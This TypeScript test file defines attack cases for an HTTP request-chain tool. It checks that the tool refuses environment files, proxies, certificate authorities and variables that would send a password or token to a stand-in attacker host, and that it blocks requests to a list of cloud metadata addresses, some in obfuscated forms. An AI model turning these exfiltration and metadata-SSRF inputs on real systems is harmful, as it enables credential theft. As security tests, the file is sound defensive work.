/** Attacks by environment files, proxies and certificates that no person vouched for, and by names of metadata services. */
import { readFileSync } from 'node:fs';
import { login, PASSWORD, send, type Attack, type AttackGroup, type Setup } from './attack';
import type { Stage } from './stage';

const SHOP_NAME = 'http://shop.example.test';
const EVIL_NAME = 'http://evil.example.test';
/** An address that is never connected to: it represents a proxy elsewhere. */
const FAR_PROXY = 'http://240.0.0.1:8080';

const home = {
  id: 'home',
  method: 'GET',
  url: '{{baseUrl}}/home',
  headers: [{ name: 'X-Key', value: PASSWORD }],
};
const environmentOf = (baseUrl: string, more: object = {}): object => ({
  formatVersion: 1,
  name: 'local',
  variables: { baseUrl },
  ...more,
});

/** A run by the network in which names lead somewhere, with nothing that binds the password. */
const refused = (name: string, setup: (stage: Stage) => Setup): Attack => ({
  name,
  verdict: 'refused',
  setup: (stage) => {
    const given = setup(stage);
    return { ...given, args: ['--proxy', stage.proxy, ...(given.args ?? [])] };
  },
});

const environments: readonly Attack[] = [
  refused('has an environment that names the stranger', () => ({
    environment: { variables: { baseUrl: EVIL_NAME } },
    requests: [home],
  })),
  refused('has an environment that names the shop, which nobody vouched for', () => ({
    environment: { variables: { baseUrl: SHOP_NAME } },
    requests: [home],
  })),
  refused('has an environment that puts the stranger together from parts', () => ({
    environment: { variables: { host: 'evil', baseUrl: 'http://{{host}}.example.test' } },
    requests: [home],
  })),
  refused('binds the password to the stranger in the environment', () => ({
    environment: { variables: { baseUrl: EVIL_NAME }, secretOrigins: { PASSWORD: [EVIL_NAME] } },
    requests: [home],
  })),
  refused('has a second URL in the environment in addition to the one on this machine', ({ shop }) => ({
    environment: { variables: { baseUrl: shop, api: EVIL_NAME } },
    requests: [{ ...home, id: 'evil', url: '{{api}}/loot' }],
  })),
  refused('sends a value of .env to a URL that the environment names', () => ({
    environment: { variables: { baseUrl: EVIL_NAME } },
    requests: [{ ...home, headers: [{ name: 'X-Key', value: '{{$secret CLOUD_KEY}}' }] }],
  })),
  refused('has a nearer environment of the same name', () => ({
    command: ['run', 'vendor/main.chain.json'],
    variables: { CHAINWRIGHT_TRUST_ENVIRONMENT: 'local.environment.json' },
    files: {
      'vendor/local.environment.json': environmentOf(EVIL_NAME),
      'vendor/main.chain.json': {
        formatVersion: 1,
        name: 'V',
        status: 'active',
        environment: 'local',
        requests: [home],
      },
    },
  })),
  refused('trusts another environment than the one that is used', () => ({
    environment: { variables: { baseUrl: EVIL_NAME } },
    variables: { CHAINWRIGHT_TRUST_ENVIRONMENT: 'other.environment.json' },
    files: { 'other.environment.json': { ...environmentOf(SHOP_NAME), name: 'other' } },
    requests: [home],
  })),
  refused('binds the password to another port by a variable of the machine', () => ({
    environment: { variables: { baseUrl: EVIL_NAME } },
    variables: { CHAINWRIGHT_ORIGINS_PASSWORD: `${EVIL_NAME}:8080 ${SHOP_NAME}` },
    requests: [home],
  })),
  refused('writes a name of its own into the chain', () => ({
    requests: [{ ...home, url: `${EVIL_NAME}/loot` }],
  })),
];

const STAGING_CA = 'test/fixtures/tls/stagingCa.pem';

const network: readonly Attack[] = [
  {
    name: 'has the environment send everything through a proxy elsewhere',
    verdict: 'refused',
    setup: () => ({ environment: { proxy: FAR_PROXY }, requests: [home] }),
  },
  {
    name: 'has the environment send everything through a SOCKS proxy elsewhere',
    verdict: 'refused',
    setup: () => ({ environment: { proxy: 'socks5://240.0.0.1:1080' }, requests: [home] }),
  },
  {
    name: 'has the environment send a derived token through a proxy elsewhere',
    verdict: 'refused',
    setup: () => ({
      environment: { proxy: FAR_PROXY },
      requests: [login, send('{{baseUrl}}/home', { auth: { type: 'bearer', token: '{{token}}' } })],
    }),
  },
  {
    name: 'has the environment trust an authority that signs for a host that the password is bound to',
    verdict: 'refused',
    setup: ({ proxy }) => ({
      environment: { variables: { baseUrl: 'https://staging.example.com' }, tls: { ca: 'ca.pem' } },
      files: { 'ca.pem': readFileSync(STAGING_CA, 'utf8') },
      requests: [home],
      args: ['--proxy', proxy, '--secret-host', 'PASSWORD=https://staging.example.com'],
    }),
  },
  {
    name: 'has an authority of its own for a name behind a proxy of its own',
    verdict: 'refused',
    setup: ({ stranger }) => ({
      environment: {
        variables: { baseUrl: 'https://staging.example.com' },
        tls: { ca: 'ca.pem' },
        proxy: stranger,
      },
      files: { 'ca.pem': readFileSync(STAGING_CA, 'utf8') },
      requests: [home],
      args: ['--secret-host', 'PASSWORD=https://staging.example.com'],
    }),
  },
  {
    name: 'shows a TLS server whose certificate nobody trusts',
    verdict: 'nothing-arrives',
    setup: ({ strangerTls }) => ({ environment: { variables: { baseUrl: strangerTls } }, requests: [home] }),
  },
];

const METADATA = [
  'http://metadata/computeMetadata/v1/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'http://METADATA.Google.Internal/',
  'http://metadata.goog/',
  'http://instance-data/latest/',
  'http://instance-data.ec2.internal/latest/',
  'http://169.254.169.254/latest/',
  'http://2852039166/latest/',
  'http://[::ffff:169.254.169.254]/latest/',
  'http://[fd00:ec2::254]/latest/',
  'http://100.100.100.200/latest/',
];

const metadata: readonly Attack[] = METADATA.map((url) => ({
  name: `asks ${url} through a proxy`,
  verdict: 'nothing-arrives',
  setup: ({ proxy }) => ({ requests: [{ id: 'ask', method: 'GET', url }], args: ['--proxy', proxy] }),
}));

/** Environment files. */
export const environmentFiles: AttackGroup = { name: 'environment files', attacks: environments };

/** Proxies and certificate authorities. */
export const proxiesAndTls: AttackGroup = { name: 'proxies and TLS', attacks: network };

/** Metadata services. */
export const metadataServices: AttackGroup = { name: 'metadata services', attacks: metadata };
